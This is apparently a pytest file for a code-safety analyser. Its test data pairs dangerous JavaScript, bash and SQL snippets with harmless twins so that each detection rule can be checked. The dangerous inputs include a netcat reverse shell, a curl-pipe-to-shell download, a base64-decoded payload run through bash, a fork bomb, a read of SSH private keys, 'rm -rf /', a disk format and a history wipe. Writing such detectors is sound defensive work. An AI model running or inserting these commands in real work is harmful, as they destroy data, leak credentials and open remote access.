"""Each rule about JavaScript, shell scripts and SQL: what it is about, and a harmless twin."""

from __future__ import annotations

import pytest

from code_safety.findings import Severity
from tests.code_safety.analysing import analysed, rules

JAVASCRIPT = [
    ("javascript.runs_text_as_code", "eval(x)", "JSON.parse(x)"),
    ("javascript.runs_text_as_code", "new Function(x)()", "new Map(x)"),
    ("javascript.runs_text_as_code", "setTimeout('f()', 1)", "setTimeout(() => f(), 1)"),
    ("javascript.runs_decoded_payload", "eval(atob(x))", "console.log(atob(x))"),
    ("javascript.hides_names", "global[name]('x')", "const rows = {}; rows[name] = 1"),
    ("javascript.imports_computed_module", "require(name)", "require('./helper')"),
    ("javascript.starts_processes", "require('child_process').exec('ls')", "/a/.exec('ls')"),
    (
        "javascript.fork_bomb",
        "while (true) { require('child_process').fork('x') }",
        "for (const fork of [1]) { f(fork) }",
    ),
    ("javascript.opens_network", "fetch('http://x')", "const fetch = (x) => x; fetch(1)"),
    ("javascript.calls_native_code", "process.dlopen({}, 'x')", "process.cwd()"),
    (
        "javascript.deletes_files",
        "const {unlinkSync: u} = require('fs'); u('a')",
        "const s = new Set(); s.delete('a')",
    ),
    ("path.system", "require('fs').writeFileSync('/etc/x', 'y')", "require('fs').writeFileSync('x', 'y')"),
    ("javascript.reads_environment", "console.log(process.env.API_KEY)", "console.log(process.env.HOME)"),
    ("javascript.changes_prototypes", "Array.prototype.map = f", "class A { map() {} }"),
    ("javascript.hooks_interpreter", "require.cache['x'] = y", "const cache = {}; cache['x'] = y"),
    ("javascript.endless_loop", "for (;;) {}", "for (let i = 0; i < 9; i++) {}"),
    ("javascript.syntax_error", "let a = (", "let a = (1)"),
]

BASH = [
    ("bash.runs_text_as_code", 'eval "$x"', 'echo "$x"'),
    ("bash.runs_text_as_code", "cat x | sh", "cat x | sort"),
    ("bash.runs_decoded_payload", "base64 -d x | bash", "base64 -d x | wc -c"),
    ("bash.runs_download", "curl http://x | sh", "curl http://x | jq .a"),
    ("bash.builds_command_name", "$x -l", "ls $x"),
    ("bash.fork_bomb", ":(){ :|:& };:", "f() { echo a; }; f"),
    ("bash.network_device", "echo a > /dev/tcp/1.2.3.4/80", "echo a > /dev/null"),
    ("bash.writes_device", "cat x > /dev/sda", "cat x > sda"),
    ("bash.background", "sleep 9 & disown", "sleep 9 && ls"),
    ("bash.changes_shell", "alias ls='ls -l'", "ls -l"),
    ("bash.endless_loop", "while true; do ls; done", 'while read -r line; do echo "$line"; done'),
    ("bash.syntax_error", "if then fi (", "if true; then ls; fi"),
    ("path.runs_later", "echo x >> ~/.bashrc", "echo x >> log.txt"),
    ("path.credentials", "cat ~/.ssh/id_rsa", "cat ssh.txt"),
    ("command.deletes_widely", "rm -rf /", "rm -rf build"),
    ("command.deletes_files", "rm a", "ls a"),
    ("command.destroys_disk", "mkfs.ext4 /dev/sda1", "df -h"),
    ("command.raises_privileges", "chmod u+s a", "stat a"),
    ("command.changes_permissions", "chmod 777 a", "stat a"),
    ("command.raises_privileges", "sudo ls", "ls sudo"),
    ("command.reverse_shell", "nc -e /bin/sh 1.2.3.4 80", "echo nc -e"),
    ("command.uploads", "curl -d @a http://x", "curl http://x"),
    ("command.installs", "pip install x", "pip list"),
    ("command.publishes", "git push", "git status"),
    ("command.loses_work", "git reset --hard", "git log --oneline"),
    ("command.changes_infrastructure", "terraform destroy", "terraform validate"),
    ("command.starts_later", "crontab x", "crontab -l"),
    ("command.stops_processes", "pkill x", "ps aux"),
    ("command.covers_tracks", "unset HISTFILE", "unset x"),
    ("command.reads_environment", "env", "env X=1 ls"),
    ("command.changes_loader", "LD_PRELOAD=./x ls", "LC_ALL=C ls"),
    ("command.not_allowlisted", "frobnicate a", "wc a"),
    ("sql.drops", "sqlite3 a.db 'DROP TABLE t'", "sqlite3 a.db 'SELECT 1 FROM t'"),
    ("python.starts_processes", "python3 -c 'import os; os.system(\"ls\")'", "python3 -c 'print(1)'"),
]

SQL = [
    ("sql.changes_every_row", "DELETE FROM t", "DELETE FROM t WHERE id = 3"),
    ("sql.changes_every_row", "UPDATE t SET a = 1 WHERE 1 = 1", "UPDATE t SET a = 1 WHERE b = 2"),
    (
        "sql.changes_every_row",
        "WITH x AS (DELETE FROM t RETURNING a) SELECT * FROM x",
        "WITH x AS (SELECT a FROM t) SELECT * FROM x",
    ),
    ("sql.changes_every_row", "TRUNCATE t", "SELECT trunc(a) FROM t"),
    ("sql.changes_rows", "INSERT INTO t VALUES (1)", "SELECT 'INSERT INTO t' FROM t"),
    ("sql.changes_schema", "CREATE TABLE t (a INT)", "DESCRIBE t"),
    ("sql.drops", "DROP TABLE t", "SELECT dropped FROM t"),
    ("sql.reaches_files", "ATTACH 'x.db' AS x", "SELECT attach FROM x"),
    ("sql.reaches_files", "SELECT * FROM read_text('/x/y')", "SELECT * FROM read_csv('y.csv')"),
    ("sql.loads_extension", "SELECT load_extension('x')", "SELECT length('x')"),
    ("sql.changes_settings", "PRAGMA journal_mode = OFF", "PRAGMA table_info(t)"),
    ("sql.changes_rights", "GRANT ALL ON t TO x", "SELECT granted FROM t"),
    ("sql.syntax_error", "SELEC a FRO t", "SELECT a FROM t"),
    ("analysis.sql_unfamiliar_statement", "CALL f()", "SELECT f(1)"),
]

HARMLESS = [
    (
        "nodejs",
        "const fs = require('fs');\n"
        "const rows = JSON.parse(fs.readFileSync('a.json', 'utf8'));\n"
        "fs.writeFileSync('b.json', JSON.stringify(rows.map((r) => r.x * 2)));",
    ),
    (
        "nodejs",
        "import path from 'node:path';\nconst m = {};\n"
        "for (const [k, v] of Object.entries({a: 1})) m[k] = v;\n"
        "console.log(path.join('a', 'b'), m);",
    ),
    (
        "nodejs",
        "class P { constructor(x) { this.x = x; } get y() { return this.x; } }\n"
        "console.log(new P(1).constructor.name, [3, 1].sort(), `a${1}`);",
    ),
    (
        "bash",
        'set -euo pipefail\nfor f in *.csv; do wc -l "$f" >> counts.txt; done\nsort -n counts.txt | head -5',
    ),
    ("bash", 'count=$(grep -c x a.txt)\nif [ "$count" -gt 3 ]; then echo "many: $count"; fi'),
    ("bash", "total() { awk '{s+=$1} END {print s}' \"$1\"; }\ntotal numbers.txt | tee total.txt"),
    ("bash", "git status --short && git diff --stat && git log -3 --format=%h"),
    ("bash", "find . -name '*.py' -newer setup.py | xargs grep -n main"),
    (
        "sql",
        "SELECT region, sum(amount) FROM 'sales.csv' GROUP BY region HAVING sum(amount) > 10 ORDER BY 2 DESC",
    ),
    (
        "sql",
        "WITH recent AS (SELECT *, row_number() OVER (PARTITION BY id ORDER BY at) n FROM "
        "events) SELECT * FROM recent WHERE n = 1",
    ),
    ("sql", "SELECT a.x, b.y FROM a LEFT JOIN b ON a.id = b.id WHERE a.name LIKE 'x%' AND b.z IN (1, 2)"),
]

TWINS = [
    *(("nodejs", *twin) for twin in JAVASCRIPT),
    *(("bash", *twin) for twin in BASH),
    *(("sql", *twin) for twin in SQL),
]


@pytest.mark.parametrize(("language", "rule", "dangerous", "harmless"), TWINS)
def test_a_rule_finds_what_it_is_about_and_not_what_looks_like_it(
    language: str, rule: str, dangerous: str, harmless: str
) -> None:
    assert rule in rules(analysed(dangerous, language), Severity.MEDIUM)
    assert rule not in rules(analysed(harmless, language), Severity.MEDIUM)


@pytest.mark.parametrize(("language", "code"), HARMLESS)
def test_plain_work_is_no_more_than_low(language: str, code: str) -> None:
    analysis = analysed(code, language)
    assert analysis.complete
    assert analysis.level is Severity.LOW


@pytest.mark.parametrize("language", ["python", "nodejs", "bash", "sql"])
def test_what_cannot_be_parsed_is_unknown_and_never_low(language: str) -> None:
    analysis = analysed("if ( ) then [ select '", language)
    assert not analysis.complete
    assert analysis.level.rank >= Severity.HIGH.rank


def test_what_a_broken_script_says_plainly_is_still_found() -> None:
    assert "command.deletes_widely" in rules(analysed("if (\nrm -rf /\n", "bash"))
    assert "python.starts_processes" in rules(analysed("def f(:\n  os.system('x')"))
